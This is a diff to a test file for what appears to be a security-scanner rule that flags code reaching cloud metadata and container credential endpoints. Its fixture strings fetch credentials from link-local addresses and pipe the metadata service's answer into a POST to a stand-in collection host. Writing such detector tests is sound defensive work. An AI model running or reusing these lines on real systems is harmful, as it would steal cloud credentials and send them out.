@@ -68,3 +68,9 @@ test('where containers get their keys counts as where machines do', () => {
   for (const host of ['169.254.170.2', '169.254.170.23', '[fd00:ec2::23]', '[fd20:ce::254]', '192.0.0.192']) assert.equal(worst(`fetch("http://${host}/v2/credentials")`), 'medium', host);
   assert.equal(worst('fetch("http://169.254.170.3/v2/credentials")'), 'high', 'another one in the network');
 });
+
+test('what the metadata service answers, piped into a request', () => {
+  const pipe = (to: string) => findingsOf(rule, { 'a.js': `const http = require("http"), https = require("https"); http.get("http://169.254.169.254/latest/meta-data/x", (res) => { const req = ${to}; res.pipe(req) })` })[0]?.severity ?? 'nothing';
+  assert.equal(pipe('https.request("https://collect.example/a", { method: "POST" })'), 'high');
+  for (const to of ['require("fs").createWriteStream("a")', 'https.request(options)']) assert.equal(pipe(to), 'medium', to);
+});
